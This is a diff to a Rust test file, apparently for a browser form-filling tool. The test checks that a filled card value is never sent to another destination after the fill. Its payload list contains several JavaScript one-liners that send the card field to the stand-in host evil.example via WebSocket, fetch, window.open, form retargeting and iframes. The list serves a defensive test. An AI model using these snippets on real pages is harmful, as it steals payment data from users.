@@ -233,7 +233,7 @@ async fn a_form_that_changed_since_the_decision_is_not_filled() {
 }
 
 const SENDERS: &str = r#"<form id=f action="/pay" method="post"><input aria-label="Card" name="card" id=c>
-<button id=b>Pay</button></form><button onclick="go()">Change</button>"#;
+<button id=b>Pay</button></form><button onclick="go()">Change</button><iframe id=i></iframe>"#;
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn after_a_fill_no_request_goes_to_another_destination() {
@@ -256,7 +256,7 @@ async fn after_a_fill_no_request_goes_to_another_destination() {
         "new WebSocket('ws://evil.example:PORT/x?'+c.value)",
         "open('http://evil.example:PORT/x?'+c.value,'','noopener')",
         "document.body.insertAdjacentHTML('beforeend','<a target=_blank rel=noopener href=\\'http://evil.example:PORT/x?'+c.value+'\\' id=a></a>');a.click()",
-        "document.body.insertAdjacentHTML('beforeend','<iframe id=i></iframe>');i.contentWindow.open('http://evil.example:PORT/x?'+c.value)",
+        "i.contentWindow.open('http://evil.example:PORT/x?'+c.value)",
         "f.target='_blank';f.action='http://evil.example:PORT/x';f.submit()",
         "fetch('http://evil.example:PORT/x',{method:'POST',body:c.value,mode:'no-cors',keepalive:true})",
         "document.body.appendChild(document.createElement('iframe')).contentWindow.eval('new WebSocket(`ws://evil.example:PORT/x?'+c.value+'`)')",
